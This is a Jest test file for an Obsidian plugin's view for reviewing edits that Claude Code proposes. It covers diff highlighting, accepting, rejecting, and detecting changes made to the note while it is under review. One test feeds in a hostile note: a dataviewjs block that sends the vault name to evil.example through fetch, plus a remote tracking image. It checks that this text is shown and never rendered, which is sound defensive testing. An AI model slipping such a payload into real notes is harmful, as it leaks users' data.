import type { WorkspaceLeaf as RealLeaf } from "obsidian";
import type { AcceptOutcome, PendingReview } from "../../src/ide/diff-review/review-types";
import * as wordDiff from "../../src/shared/word-diff";
import { DIFF_VIEW_TYPE, DiffReviewView, type DiffReviewActions } from "../../src/obsidian/diff-view";
import { App, FakeElement, MarkdownRenderer, notices, WorkspaceLeaf } from "../__mocks__/obsidian";
import { buildWorkspace, closeWorkspace, markdownViewOf, settle } from "./harness/workspace-builder";

const review: PendingReview = {
	id: 1,
	tabName: "✻ [Claude Code] note.md (abc123) ⧉",
	target: { relative: "Notes/note.md", absolute: "/vault/Notes/note.md" },
	originalText: "# Title\n\nThe quick brown fox.\n",
	proposedText: "# Title\n\nThe quick red fox.\n",
	isNewFile: false,
	sessionId: 1,
	proposer: { client: "claude-code", session: 1, tool: "openDiff" },
	since: new Date(0),
};

class RecordingActions implements DiffReviewActions {
	readonly calls: string[] = [];
	/** What the review manager answers an Accept with. */
	acceptOutcome: AcceptOutcome = { kind: "accepted" };
	accept(shown: PendingReview, finalText: string): AcceptOutcome {
		this.calls.push(`accept ${shown.id} ${JSON.stringify(finalText)}`);
		return this.acceptOutcome;
	}
	reject(shown: PendingReview): void {
		this.calls.push(`reject ${shown.id}`);
	}
	closed(shown: PendingReview): void {
		this.calls.push(`closed ${shown.id}`);
	}
}

function finder(view: DiffReviewView) {
	const root = view.contentEl as unknown as FakeElement;
	const one = (cls: string): FakeElement => {
		const found = root.findAll(cls)[0];
		if (!found) throw new Error(`no .${cls}`);
		return found;
	};
	return { root, one };
}

function openView(shown: PendingReview = review) {
	const leaf = new WorkspaceLeaf(new App("/vault", "Vault"));
	const view = new DiffReviewView(leaf as unknown as RealLeaf);
	const actions = new RecordingActions();
	view.load();
	view.showReview(shown, actions);
	return { view, actions, ...finder(view) };
}

afterEach(() => {
	jest.useRealTimers();
	jest.restoreAllMocks();
});

describe("DiffReviewView", () => {
	it("shows the note against the proposal with only the changed words highlighted", () => {
		const { root, view } = openView();
		expect(view.getDisplayText()).toBe("Review: note.md");
		expect(view.getState()).toEqual({ tabName: review.tabName, path: "Notes/note.md" });
		expect(root.findAll("ccb-diff-word-removed").map((el) => el.text)).toEqual(["brown"]);
		expect(root.findAll("ccb-diff-word-added").map((el) => el.text)).toEqual(["red"]);
		expect(root.findAll("ccb-diff-removed")).toHaveLength(1);
		expect(root.findAll("ccb-diff-added")).toHaveLength(1);
		expect(root.findAll("ccb-diff-unified")).toHaveLength(1);
	});

	it("switches to side by side, and to the proposal as it will read", () => {
		const { root, one } = openView();
		one("ccb-review-layout").dispatch("click");
		expect(root.findAll("ccb-diff-side-by-side")).toHaveLength(1);
		expect(root.findAll("ccb-diff-row").length).toBeGreaterThan(0);
		one("ccb-review-preview").dispatch("click");
		expect(one("ccb-review-proposal").textContent).toBe("# Title\n\nThe quick red fox.\n");
		expect(root.findAll("ccb-diff-word-added").map((el) => el.text)).toEqual(["red"]);
		expect(root.findAll("ccb-diff-word-removed")).toEqual([]);
		expect(one("ccb-review-preview").text).toBe("Show changes");
	});

	it("never hands unaccepted text to MarkdownRenderer (no plugin code blocks, no remote images)", () => {
		const render = jest.spyOn(MarkdownRenderer, "render");
		const hostile = "# Title\n\n```dataviewjs\nfetch('https://evil.example/?' + app.vault.getName())\n```\n\n![](https://evil.example/pixel.png)\n";
		const { root, one } = openView({ ...review, proposedText: hostile });
		one("ccb-review-preview").dispatch("click");
		one("ccb-review-layout").dispatch("click");
		const box = one("ccb-review-textarea");
		box.value = `${hostile}more\n`;
		box.dispatch("input");
		one("ccb-review-preview").dispatch("click");
		one("ccb-review-preview").dispatch("click");
		expect(render).not.toHaveBeenCalled();
		// The proposal is shown as text: the code block and the image link are visible, not run or loaded.
		expect(root.textContent).toContain("![](https://evil.example/pixel.png)");
		expect(root.textContent).toContain("```dataviewjs");
	});

	it("accepts the proposal unchanged, byte for byte", () => {
		const { actions, one } = openView();
		one("ccb-review-accept").dispatch("click");
		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.proposedText)}`]);
	});

	it("says why when the review manager refuses the Accept (the note's folder was replaced meanwhile)", () => {
		const { actions, one } = openView();
		actions.acceptOutcome = { kind: "refused", reason: "Notes/note.md was not saved: its path now leads out of the vault" };
		notices.length = 0;
		one("ccb-review-accept").dispatch("click");
		expect(notices).toEqual(["Not accepted: Notes/note.md was not saved: its path now leads out of the vault."]);
	});

	it("accepts the text as edited in the proposal box, and redraws the diff once typing pauses", () => {
		jest.useFakeTimers();
		const diffs = jest.spyOn(wordDiff, "computeLineDiff");
		const { actions, one, root } = openView();
		diffs.mockClear();
		const box = one("ccb-review-textarea");
		for (const text of ["# Title\n\nThe quick g fox.\n", "# Title\n\nThe quick gr fox.\n", "# Title\n\nThe quick grey fox.\n"]) {
			box.value = text;
			box.dispatch("input");
			jest.advanceTimersByTime(100);
		}
		expect(diffs).not.toHaveBeenCalled();
		expect(root.findAll("ccb-diff-word-added").map((el) => el.text)).toEqual(["red"]);
		expect(one("ccb-review-accept").text).toBe("Accept edited");
		jest.advanceTimersByTime(300);
		expect(diffs).toHaveBeenCalledTimes(1);
		expect(root.findAll("ccb-diff-word-added").map((el) => el.text)).toEqual(["grey"]);
		one("ccb-review-accept").dispatch("click");
		expect(actions.calls).toEqual(['accept 1 "# Title\\n\\nThe quick grey fox.\\n"']);
	});

	it("accepts the latest edit even while the redraw is still waiting", () => {
		jest.useFakeTimers();
		const { actions, one } = openView();
		const box = one("ccb-review-textarea");
		box.value = "typed just now\n";
		box.dispatch("input");
		one("ccb-review-accept").dispatch("click");
		expect(actions.calls).toEqual(['accept 1 "typed just now\\n"']);
	});

	it("rejects with the button, and closing the view counts as a rejection", async () => {
		const first = openView();
		first.one("ccb-review-reject").dispatch("click");
		expect(first.actions.calls).toEqual(["reject 1"]);
		const second = openView();
		await second.view.onClose();
		expect(second.actions.calls).toEqual(["closed 1"]);
		expect(second.view.pendingReview).toBeUndefined();
	});

	it("warns about a new note and about a proposal that empties the note", () => {
		const created = openView({ ...review, isNewFile: true, originalText: "" });
		expect(created.root.textContent).toContain("This note does not exist yet: everything shown is new.");
		const emptied = openView({ ...review, proposedText: "" });
		expect(emptied.root.textContent).toContain("The proposal removes everything in this note. Accepting leaves the note empty.");
		expect(emptied.root.findAll("ccb-diff-removed")).toHaveLength(3);
	});

	it("names the reviewed note in its tab from the view state alone: before the review is attached and after a restart", async () => {
		const leaf = new WorkspaceLeaf(new App("/vault", "Vault"));
		const view = new DiffReviewView(leaf as unknown as RealLeaf);
		await view.setState({ tabName: "old tab", path: "Projects/plan.md" }, { history: false });
		await view.onOpen();
		expect(view.tabName).toBe("old tab");
		expect(view.getDisplayText()).toBe("Review: plan.md");
		expect((view.contentEl as unknown as FakeElement).textContent).toContain("This review is no longer waiting for a decision.");
	});
});

describe("DiffReviewView while the user edits the note under review", () => {
	const notePath = "Notes/note.md";
	const cleanups: (() => Promise<void>)[] = [];
	afterEach(async () => {
		for (const cleanup of cleanups.splice(0)) await cleanup();
	});

	async function reviewWithNoteOpen() {
		const built = await buildWorkspace({ notes: { [notePath]: review.originalText }, tabs: [{ path: notePath }] });
		const { app } = built;
		app.viewRegistry.set(DIFF_VIEW_TYPE, (leaf) => new DiffReviewView(leaf as unknown as RealLeaf) as never);
		const leaf = app.workspace.getLeaf("tab");
		await leaf.setViewState({ type: DIFF_VIEW_TYPE, state: { tabName: review.tabName, path: notePath } });
		const view = leaf.view;
		if (!(view instanceof DiffReviewView)) throw new Error("no review view");
		const actions = new RecordingActions();
		view.showReview(review, actions);
		cleanups.push(async () => {
			view.unload();
			await closeWorkspace(app);
		});
		const noteLeaf = built.leaves[0];
		if (!noteLeaf) throw new Error("no note tab");
		return { app, view, actions, note: markdownViewOf(noteLeaf), ...finder(view) };
	}

	it("typing in the open note after the proposal arrived blocks Accept until the user compares against the note now", async () => {
		const { app, actions, note, one, root } = await reviewWithNoteOpen();
		note.type("# Title\n\nThe quick brown fox.\nMy new line.\n");
		await settle(app);
		expect(root.textContent).toContain("This note changed after Claude proposed the edit.");
		notices.length = 0;
		one("ccb-review-accept").dispatch("click");
		expect(actions.calls).toEqual([]);
		expect(notices).toEqual([expect.stringContaining("The note changed after Claude proposed this edit")]);
		one("ccb-review-rebase").dispatch("click");
		await settle(app);
		// The diff now shows what Accept does to the note as it is: the user's new line would go.
		expect(root.findAll("ccb-diff-removed").map((el) => el.textContent)).toContain("4−My new line.");
		expect(root.textContent).not.toContain("This note changed after Claude proposed the edit.");
		one("ccb-review-accept").dispatch("click");
		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(review.proposedText)}`]);
	});

	it("a change on disk (sync, another app) is noticed too; a change back to the proposal's base clears it", async () => {
		const { app, root } = await reviewWithNoteOpen();
		app.vault.writeExternally(notePath, "Rewritten elsewhere.\n");
		await settle(app);
		expect(root.textContent).toContain("This note changed after Claude proposed the edit.");
		app.vault.writeExternally(notePath, review.originalText.replace(/\n/g, "\r\n"));
		await settle(app);
		expect(root.textContent).not.toContain("This note changed after Claude proposed the edit.");
	});

	it("edits to other notes are not the review's business", async () => {
		const { app, actions, one, root } = await reviewWithNoteOpen();
		app.vault.writeExternally("Other.md", "unrelated\n");
		await settle(app);
		expect(root.textContent).not.toContain("This note changed");
		one("ccb-review-accept").dispatch("click");
		expect(actions.calls).toHaveLength(1);
	});
});
